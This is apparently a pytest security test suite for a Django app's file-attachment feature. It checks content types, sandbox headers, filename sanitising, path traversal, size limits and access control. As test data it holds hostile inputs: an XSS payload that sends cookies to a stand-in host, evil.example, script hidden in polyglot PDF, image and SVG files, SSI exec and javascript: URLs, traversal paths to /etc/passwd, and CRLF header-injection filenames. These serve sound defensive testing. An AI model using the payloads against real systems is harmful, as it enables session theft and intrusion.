"""Files as a way in: what a browser would run, names that lie, sizes, paths, and the files of others."""

import unicodedata
from email.message import Message

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from salesplan.core.attachments.actions import attach
from salesplan.core.attachments.models import Attachment
from salesplan.core.attachments.rules import LONGEST_NAME, TYPES
from salesplan.core.errors import Refused
from tests.world import NOW

pytestmark = pytest.mark.django_db
PDF = b"%PDF-1.7\nThe order"
SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
RUNS = {
    "picture.svg": SVG,
    "page.html": b"<!doctype html><html>" + SCRIPT,
    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "order.pdf": b"%PDF-1.7\n" + SCRIPT,  # a PDF to one reader, a page to another
    "late.pdf": b"\n" * 900 + b"%PDF-1.7\n" + SCRIPT,
    "photo.png": b"\x89PNG\r\n\x1a\n" + SCRIPT,
    "photo.jpg": b"\xff\xd8\xff/*" + SCRIPT + b"*/=1;",
    "photo.webp": b"RIFF\x00\x00\x00\x00WEBP" + SCRIPT,
    "script.gif": b"GIF89a/*" + SCRIPT + b"*/=1;",
    "style.css": b"body{background:url(https://evil.example)}",
    "page.shtml": b'<!--#exec cmd="id" -->',
    "mail.mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT,
    "feed.xml": b'<?xml-stylesheet href="javascript:alert(1)"?><a/>',
    "evil.url": b"[InternetShortcut]\nURL=javascript:alert(1)",
}
NOTHING = {
    "utf16.html": "<script>alert(1)</script>".encode("utf-16"),
    "program.pdf": b"MZ\x90\x00 this program cannot be run",
    "elf.txt": b"\x7fELF\x02\x01\x01\x00",
    "java.jar": b"PK\x03\x04 no directory",
    "empty.pdf": b"",
    "blank.txt": b" \n ",
    "escape.txt": b"\x1b]0;title\x07 a terminal would obey",
    "flash.swf": b"FWS\x01\x00",
}
NAMES = [
    'quote".pdf',
    "semicolon;filename=evil.html.pdf",
    "line\r\nContent-Type: text/html\r\n\r\n<script>.pdf",
    "nul\x00.html.pdf",
    "bidi\u202efdp.exe",
    "isolate\u2066fdp\u2069.html",
    "separator\u2028.pdf",
    "zero\u200bwidth\ufeff.pdf",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\evil.exe",
    "/absolute/path.pdf",
    "C:\\fakepath\\合同.pdf",
    ".htaccess",
    "....",
    "",
    "%2e%2e%2fpasswd",
    "=HYPERLINK(1).pdf",
    "<img src=x onerror=alert(1)>.pdf",
    "a" * 5000 + ".pdf",
    "合" * 5000,
    "🧨.pdf",
]


@pytest.fixture(autouse=True)
def _files(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"


def add(world, name="order.pdf", data=PDF):
    return attach("deal", world.deal, name=name, data=data, by=world.rep, at=NOW)


def fetched(client: Client, row: Attachment):
    for url in (reverse("core:attachment_file", args=[row.pk]), f"/api/v1/attachments/{row.pk}/content/"):
        answer = client.get(url)
        assert answer.status_code == 200
        yield answer, b"".join(answer.streaming_content)


@pytest.mark.parametrize("name", RUNS)
def test_nothing_that_a_browser_would_run_is_run(world, as_, name) -> None:
    row = add(world, name, RUNS[name])
    for answer, body in fetched(as_(world.rep), row):
        assert body == RUNS[name]
        assert answer["Content-Type"] in {kind.media for kind in TYPES}
        assert answer["Content-Disposition"].startswith("attachment")
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert "no-store" in answer["Cache-Control"]
    ending = "." + row.name.rpartition(".")[2].lower()
    assert ending in next(kind for kind in TYPES if kind.media == row.media).endings


@pytest.mark.parametrize("name", NOTHING)
def test_what_is_no_document_leaves_nothing_behind(world, as_, name) -> None:
    with pytest.raises(Refused):
        add(world, name, NOTHING[name])
    url = reverse("core:attachment_list", args=["deal", world.deal.pk])
    page = as_(world.rep).post(url, {"file": SimpleUploadedFile(name, NOTHING[name])})
    assert page.status_code == 422
    assert Attachment.objects.count() == 0
    assert not default_storage.exists("attachments") or default_storage.listdir("attachments")[1] == []


@pytest.mark.parametrize("name", NAMES)
def test_a_name_lies_neither_in_the_header_nor_on_the_page(world, as_, name) -> None:
    row = add(world, name)
    assert len(row.name) <= LONGEST_NAME
    assert row.name.lower().endswith(".pdf")
    assert not {"/", "\\"} & set(row.name)
    assert [sign for sign in row.name if unicodedata.category(sign)[0] == "C" or sign in "\u2028\u2029"] == []
    assert default_storage.path(row.stored).startswith(str(default_storage.location) + "/attachments/")
    for answer, _body in fetched(as_(world.rep), row):
        header = answer["Content-Disposition"]
        assert not {"\r", "\n", "\x00"} & set(header)
        told = Message()
        told["Content-Disposition"] = header
        assert told.get_content_disposition() == "attachment"
        assert told.get_filename() == row.name
        assert answer["Content-Type"] == "application/pdf"
    page = as_(world.rep).get(reverse("core:attachment_list", args=["deal", world.deal.pk])).content.decode()
    assert "<img src=x" not in page


def test_a_raw_body_with_two_names_and_a_broken_line_is_one_file(world, as_) -> None:
    """As no browser writes it: the header of the part holds another header and a second file name."""
    body = (
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"; filename="../../b.html"\r\n'
        b"Content-Type: text/html\r\n\r\n" + PDF + b"\r\n--x--\r\n"
    )
    url = reverse("core:attachment_list", args=["deal", world.deal.pk])
    answer = as_(world.rep).generic("POST", url, body, content_type="multipart/form-data; boundary=x")
    assert answer.status_code in (302, 422)
    for row in Attachment.objects.all():
        assert (row.media, row.name.endswith(".pdf"), "/" in row.name) == ("application/pdf", True, False)


@pytest.mark.parametrize("who", ["peer", "stranger", "outsider"])
def test_a_file_of_others_is_not_there_by_its_number(world, as_, who) -> None:
    row, client = add(world), as_(getattr(world, who))
    api = f"/api/v1/attachments/{row.pk}/"
    for method, url in (
        ("get", reverse("core:attachment_file", args=[row.pk])),
        ("post", reverse("core:attachment_remove", args=[row.pk])),
        ("get", reverse("core:attachment_list", args=["deal", world.deal.pk])),
        ("post", reverse("core:attachment_list", args=["deal", world.deal.pk])),
        ("get", api),
        ("get", f"{api}content/"),
        ("delete", api),
    ):
        assert getattr(client, method)(url).status_code == 404, url
    assert client.get("/api/v1/attachments/").json()["results"] == []
    # A number that is nobody's is answered the same way, so numbers tell nothing.
    mine, none = client.get(api), client.get(f"/api/v1/attachments/{row.pk + 1000}/")
    assert mine.json() == none.json()
    assert Attachment.objects.not_removed().count() == 1


def test_a_stranger_without_a_session_gets_nothing(world) -> None:
    row = add(world)
    assert Client().get(reverse("core:attachment_file", args=[row.pk])).status_code == 302
    assert Client().get(f"/api/v1/attachments/{row.pk}/content/").status_code == 401


def test_the_place_where_files_lie_has_no_address(world, as_) -> None:
    row = add(world)
    for path in (f"/media/{row.stored}", f"/{row.stored}", f"/static/{row.stored}", f"/static/../{row.stored}"):
        assert as_(world.admin).get(path).status_code == 404


@pytest.mark.parametrize("place", ["person", "Deal", "../deal", "deal%00", "0", "__class__"])
def test_a_place_that_is_none_is_not_there(world, as_, place) -> None:
    client, pk = as_(world.rep), world.deal.pk
    assert client.get(f"/attachments/{place}/{pk}/").status_code in (400, 404)
    given = {"place": place, "record_id": pk, "file": SimpleUploadedFile("o.pdf", PDF)}
    assert client.post("/api/v1/attachments/", given).status_code in (400, 404)
    assert Attachment.objects.count() == 0


def test_the_size_is_held_to_the_byte_in_both_ways(world, as_, settings) -> None:
    settings.ATTACHMENT_MAX_BYTES = 1024
    client, url = as_(world.rep), reverse("core:attachment_list", args=["deal", world.deal.pk])
    for size, page, api in ((1024, 302, 422), (1025, 422, 422), (1_200_000, 413, 413)):
        data = PDF + b"x" * (size - len(PDF))
        assert client.post(url, {"file": SimpleUploadedFile("o.pdf", data)}).status_code == page
        given = {"place": "deal", "record_id": world.deal.pk, "file": SimpleUploadedFile("o.pdf", data)}
        # The first is attached already, by the page.
        assert client.post("/api/v1/attachments/", given).status_code == api
    assert [row.size for row in Attachment.objects.all()] == [1024]
